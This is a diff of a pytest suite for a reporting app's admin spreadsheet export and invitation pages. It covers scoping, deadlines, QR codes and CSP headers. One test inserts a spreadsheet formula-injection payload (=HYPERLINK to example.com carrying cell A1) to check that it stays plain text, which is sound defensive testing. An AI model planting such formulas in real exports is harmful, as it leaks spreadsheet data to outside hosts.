@@ -2,16 +2,13 @@
 
 import datetime as dt
 import html
-import io
 import re
 from urllib.parse import unquote
 
-import openpyxl
 import pytest
 import sqlalchemy as sa
-import test_admin
 from pages import text_of
-from test_admin import sign_in
+from workbooks import column_values, downloaded_workbook
 
 from models import Unit, db
 from reporting.links import qr_data_uri
@@ -21,12 +18,8 @@ from schema import REPORTING_LEVELS
 KRONG_PAC = ["TU.KP", "KP.BV", "KP.EK", "KP.EK.01", "KP.EK.02", "KP.PA", "KP.PA.01", "KP.PA.02"]
 HEADERS = ["Huyện ủy, thành ủy, đảng ủy trực thuộc Tỉnh ủy", "Đảng bộ, chi bộ cơ sở", "Mã đơn vị", "Đơn vị", "Cấp",
            "Hạn nộp", "Đường liên kết"]
-#: The committees' accounts of test_admin: "btc" manages the province, "krongpac" views one district.
-accounts = test_admin.accounts
-
 NEW_ROUTES = ("/admin/links.xlsx", "/admin/invitations", "/admin/invitations?child=TU.KP",
               "/admin/units/KP.EK.01/invitation")
-
 
 
 def units_in_hierarchy_order():
@@ -43,12 +36,10 @@ def units_in_hierarchy_order():
         stack.extend(reversed(children.get(unit.id, [])))
     return ordered
 
+
 def links_workbook(client, **request):
     response = client.get("/admin/links.xlsx", **request)
-    assert response.status_code == 200
-    book = openpyxl.load_workbook(io.BytesIO(response.data))
-    response.close()
-    return book.worksheets[0], response
+    return downloaded_workbook(response).worksheets[0], response
 
 
 def rows_by_code(sheet):
@@ -71,8 +62,8 @@ def invitations_of(page):
     return found
 
 
-def test_the_workbook_lists_every_unit_of_the_scope_once_in_hierarchy_order(app, client, accounts):
-    sign_in(client, "btc")
+def test_the_workbook_lists_every_unit_of_the_scope_once_in_hierarchy_order(app, client, auth, accounts):
+    auth.sign_in("btc")
     sheet, response = links_workbook(client)
     assert "filename*=UTF-8''%C4%91%C6%B0%E1%BB%9Dng-li%C3%AAn-k%E1%BA%BFt_T%E1%BB%89nh-%E1%BB%A7y" in \
         response.headers["Content-Disposition"]
@@ -100,15 +91,17 @@ def test_the_workbook_lists_every_unit_of_the_scope_once_in_hierarchy_order(app,
     assert [cell.value for cell in kp_ek_01[:2]] == ["Huyện ủy Krông Pắc", "Đảng bộ xã Ea Kly"]
 
 
-def test_the_links_follow_the_address_the_committee_uses(client, accounts):
-    sign_in(client, "krongpac")
+def test_the_links_follow_the_address_the_committee_uses(app, client, auth, accounts):
+    auth.sign_in("krongpac")
     client.set_cookie("session", client.get_cookie("session").value, domain="tongket.example.vn")
     sheet, _ = links_workbook(client, base_url="https://tongket.example.vn")
-    assert all(row[6].value.startswith("https://tongket.example.vn/s/") for row in sheet.iter_rows(min_row=2))
+    assert column_values(sheet, 2) == KRONG_PAC
+    secret = tokens(app)
+    assert column_values(sheet, 6) == [f"https://tongket.example.vn/s/{secret[code]}" for code in KRONG_PAC]
 
 
-def test_a_district_account_gets_only_its_units(app, client, accounts):
-    sign_in(client, "krongpac")
+def test_a_district_account_gets_only_its_units(app, client, auth, accounts):
+    auth.sign_in("krongpac")
     sheet, _ = links_workbook(client)
     assert [row[2].value for row in sheet.iter_rows(min_row=2)] == KRONG_PAC
     for outside in ("/admin/units/BMT.TL.01/invitation", "/admin/units/TU/invitation",
@@ -121,12 +114,12 @@ def test_a_district_account_gets_only_its_units(app, client, accounts):
     assert [name for name, _link, _qr in invitations_of(page)] == [accounts[code].name for code in KRONG_PAC]
 
 
-def test_a_unit_named_like_a_formula_stays_text(app, client, accounts):
+def test_a_unit_named_like_a_formula_stays_text(app, client, auth, accounts):
     hostile = '=HYPERLINK("http://example.com/?"&A1,"Mở")'
     with app.app_context():
         db.session.scalar(sa.select(Unit).filter_by(code="KP.EK.01")).name = hostile
         db.session.commit()
-    sign_in(client, "krongpac")
+    auth.sign_in("krongpac")
     sheet, _ = links_workbook(client)
     name = rows_by_code(sheet)["KP.EK.01"][3]
     assert name.value == hostile and name.data_type == "s" and name.quotePrefix
@@ -135,18 +128,18 @@ def test_a_unit_named_like_a_formula_stays_text(app, client, accounts):
     assert "=HYPERLINK(&#34;http://example.com/?&#34;&amp;A1" in page
 
 
-def test_an_extended_deadline_is_the_one_given(app, client, accounts):
+def test_an_extended_deadline_is_the_one_given(app, client, auth, accounts):
     with app.app_context():
         extend_deadline(db.session.scalar(sa.select(Unit).filter_by(code="KP.EK.01")), dt.date(2027, 5, 3))
-    sign_in(client, "krongpac")
+    auth.sign_in("krongpac")
     sheet, _ = links_workbook(client)
     assert rows_by_code(sheet)["KP.EK.01"][5].value == dt.datetime(2027, 5, 3)
     assert rows_by_code(sheet)["KP.EK.02"][5].value == dt.datetime(2027, 4, 10)
     assert "03/05/2027" in text_of(client.get("/admin/units/KP.EK.01/invitation").text)
 
 
-def test_the_invitation_shows_the_unit_its_deadline_link_and_qr_code(app, client, accounts):
-    sign_in(client, "krongpac")
+def test_the_invitation_shows_the_unit_its_deadline_link_and_qr_code(app, client, auth, accounts):
+    auth.sign_in("krongpac")
     response = client.get("/admin/units/KP.EK.01/invitation")
     assert response.status_code == 200
     assert response.headers["Cache-Control"] == "private, no-store"
@@ -162,10 +155,11 @@ def test_the_invitation_shows_the_unit_its_deadline_link_and_qr_code(app, client
     assert svg.startswith("<svg") and "style" not in svg and "script" not in svg
 
 
-def test_invitations_need_no_inline_style_or_script(client, accounts):
-    sign_in(client, "btc")
+def test_invitations_need_no_inline_style_or_script(client, auth, accounts):
+    auth.sign_in("btc")
     for url in ("/admin/units/KP.EK.01/invitation", "/admin/invitations"):
         response = client.get(url)
+        assert response.status_code == 200, url
         policy = response.headers["Content-Security-Policy"]
         assert "style-src 'self'" in policy and "img-src 'self' data:" in policy
         assert "style=" not in response.text and "<style" not in response.text
@@ -173,8 +167,8 @@ def test_invitations_need_no_inline_style_or_script(client, accounts):
             '<script src="/static/tongket.js" defer>']
 
 
-def test_invitations_print_one_page_per_unit_of_the_scope_or_of_one_unit_in_it(app, client, accounts):
-    sign_in(client, "btc")
+def test_invitations_print_one_page_per_unit_of_the_scope_or_of_one_unit_in_it(app, client, auth, accounts):
+    auth.sign_in("btc")
     with app.app_context():
         expected = [unit.name for unit in units_in_hierarchy_order() if unit.level in REPORTING_LEVELS]
     everything = invitations_of(client.get("/admin/invitations").text)
@@ -192,9 +186,9 @@ def test_invitations_print_one_page_per_unit_of_the_scope_or_of_one_unit_in_it(a
     stylesheet.close()
 
 
-def test_too_many_invitations_ask_for_a_smaller_part(client, accounts, monkeypatch):
+def test_too_many_invitations_ask_for_a_smaller_part(client, auth, accounts, monkeypatch):
     monkeypatch.setattr("views.admin.links.INVITATIONS_LIMIT", 7)
-    sign_in(client, "btc")
+    auth.sign_in("btc")
     page = client.get("/admin/invitations").text
     assert invitations_of(page) == [] and "data-print" not in page
     assert "26 trang" in text_of(page)
@@ -205,8 +199,8 @@ def test_too_many_invitations_ask_for_a_smaller_part(client, accounts, monkeypat
     assert 'href="/admin/invitations?child=KP.EK"' in district
 
 
-def test_the_pages_link_to_the_links(client, accounts):
-    sign_in(client, "krongpac")
+def test_the_pages_link_to_the_links(client, auth, accounts):
+    auth.sign_in("krongpac")
     nav = client.get("/admin/").text
     assert 'href="/admin/links.xlsx"' in nav and 'href="/admin/invitations"' in nav
     unit_page = client.get("/admin/units/KP.EK.01").text
